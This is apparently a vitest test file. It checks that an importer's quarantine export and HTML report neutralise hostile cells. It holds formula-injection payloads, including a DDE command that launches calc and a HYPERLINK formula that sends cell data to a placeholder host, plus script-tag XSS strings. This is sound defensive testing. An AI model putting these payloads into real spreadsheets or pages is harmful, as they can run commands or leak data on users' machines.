import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FIELDS } from '../../src/domain/fields.js';
import { ZipArchive } from '../../src/tables/zip-archive.js';
import { DEFAULT_PACKAGE_LIMITS } from '../../src/import/readers/packages.js';
import { csvRecord } from '../../samples/generate/output/csv-file.js';
import { FaultBench, runOrderly } from '../helpers/faults.js';

/** What a spreadsheet program would run if it were told that it is a formula, and what a browser would run as markup. */
const PAYLOADS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://example.invalid/?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '"=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</style><script>alert(1)</script>',
] as const;

/** Columns mapped to a field, a column that is not, and a header that is a formula itself. */
const HEADER = [...FIELDS.map(({ key }) => key), '另注', '=1+2'];

const bench = new FaultBench();
let sheetPath: string;
let reportPath: string;
let workbook: ExcelJS.Workbook;

beforeAll(async () => {
  await bench.makeTemplate();
  const home = bench.copyHome();
  const rows = PAYLOADS.map((payload) => HEADER.map(() => payload));
  const input = bench.write('attack.csv', [HEADER, ...rows].map(csvRecord).join(''));
  reportPath = bench.at('report.html');
  const { document } = await runOrderly<{ rows: number; quarantined: number }>(['--home', home, 'import', input, '--report', reportPath]);
  expect(document).toMatchObject({ rows: PAYLOADS.length, quarantined: PAYLOADS.length });
  sheetPath = bench.at('repair.xlsx');
  expect((await runOrderly(['--home', home, 'quarantine', 'export', sheetPath])).code).toBe(0);
  workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(sheetPath);
});
afterAll(() => bench.remove());

function cellsOf(book: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

describe('a sheet written of hostile cells', () => {
  it('holds their text, and no formula', () => {
    const cells = cellsOf(workbook);
    expect(cells.length).toBeGreaterThan(PAYLOADS.length * FIELDS.length);
    const kinds = new Set(cells.map(({ type }) => type));
    expect(kinds).not.toContain(ExcelJS.ValueType.Formula);
    expect(kinds).not.toContain(ExcelJS.ValueType.Hyperlink);
  });

  it.each(PAYLOADS.filter((payload) => !payload.startsWith('\r')))('shows %j as it stood in the file, as text', (payload) => {
    const found = cellsOf(workbook).filter(({ type, text }) => type !== ExcelJS.ValueType.Number && text === payload);
    expect(found.length).toBeGreaterThanOrEqual(FIELDS.length);
  });

  it('says so in every part: no part has an element for a formula, a link outside, or a macro', async () => {
    const archive = await ZipArchive.open(sheetPath, sheetPath, DEFAULT_PACKAGE_LIMITS);
    try {
      for (const entry of archive.entries) {
        const pieces: Buffer[] = [];
        for await (const piece of archive.read(entry)) pieces.push(piece);
        const xml = Buffer.concat(pieces).toString('utf8');
        expect(entry.name).not.toMatch(/vbaProject|externalLink|macrosheet/u);
        expect(xml).not.toMatch(/<f[ >/]|TargetMode="External"|<hyperlink|ddeLink/u);
      }
    } finally {
      await archive.close();
    }
  });
});

describe('a report written of hostile cells', () => {
  it('has no markup of theirs', () => {
    const html = readFileSync(reportPath, 'utf8');
    expect(html).toContain('&lt;script&gt;alert(1)');
    expect(html).not.toMatch(/<script>alert|<img src=x|<\/style><script/u);
  });
});
